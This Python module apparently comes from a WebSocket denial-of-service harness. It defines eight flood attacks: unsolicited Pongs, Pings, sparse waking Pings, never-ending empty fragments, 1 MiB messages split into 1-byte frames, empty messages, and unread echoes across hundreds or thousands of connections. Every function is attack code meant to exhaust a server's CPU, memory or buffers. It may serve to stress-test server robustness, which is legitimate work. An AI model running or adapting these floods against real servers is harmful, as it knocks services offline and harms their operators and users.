"""Floods of frames that are cheap to send and dear to take: control frames, empty and tiny ones."""

from attack import attack
from crowd import Plan, crowd
from prebuilt import PING, PONG, TEXT
from target import Tally, Target
from wire import CONTINUATION, blast, frame, handshake, upgraded

#: Bytes of a message that is sent byte by byte.
MESSAGE = 2**20


def flood(
    target: Target, again: bytes, *, first: bytes = b"", pace: float = 0.0, reads: bool = True
) -> Tally:
    """WebSockets that send `again` for ever, behind `first`."""
    plan = Plan(
        request=handshake(target), answer=upgraded(), first=first, again=again, pace=pace, reads=reads
    )
    return crowd(target, plan)


@attack("unasked Pongs", 100)
def pongs(target: Target) -> Tally:
    """Pongs without payload, which nobody has asked for (RFC 6455, section 5.5.3 allows them)."""
    return flood(target, blast(frame(PONG)))


@attack("Pings, Pongs read", 100)
def pings(target: Target) -> Tally:
    """Pings without payload, each of which has to be answered."""
    return flood(target, blast(frame(PING)))


@attack("Pings, a second apart on each connection", 2000)
def sparse_pings(target: Target) -> Tally:
    """Few Pings on many connections: each wakes a server that has just gone to sleep."""
    return flood(target, frame(PING, b"wake"), pace=1.0)


@attack("empty fragments of one message", 100)
def empty_fragments(target: Target) -> Tally:
    """A message that does not end, in fragments without a byte."""
    return flood(target, blast(frame(CONTINUATION, final=False)), first=frame(TEXT, final=False))


@attack("messages of 1 MiB in fragments of 1 byte", 300)
def byte_fragments(target: Target) -> Tally:
    """Seven bytes on the wire for each of the message's, and each in a frame of its own."""
    middle = frame(CONTINUATION, b"a", final=False) * (MESSAGE - 2)
    message = frame(TEXT, b"a", final=False) + middle + frame(CONTINUATION, b"a")
    return flood(target, message)


@attack("empty messages, echoes read", 100)
def empty_messages(target: Target) -> Tally:
    """Messages without a byte, each of which is echoed."""
    return flood(target, blast(frame(TEXT)))


def tiny_messages_unread(target: Target) -> Tally:
    """Messages of one byte, whose echoes are never read."""
    return flood(target, blast(frame(TEXT, b"a")), reads=False)


@attack("messages of 1 byte, echoes unread, 100 connections", 100)
def unread_echoes_100(target: Target) -> Tally:
    """What cannot be sent is in the server's way, or in its memory."""
    return tiny_messages_unread(target)


@attack("messages of 1 byte, echoes unread, 300 connections", 300)
def unread_echoes_300(target: Target) -> Tally:
    """The same, by three times as many."""
    return tiny_messages_unread(target)


ATTACKS = (
    pongs,
    pings,
    sparse_pings,
    empty_fragments,
    byte_fragments,
    empty_messages,
    unread_echoes_100,
    unread_echoes_300,
)
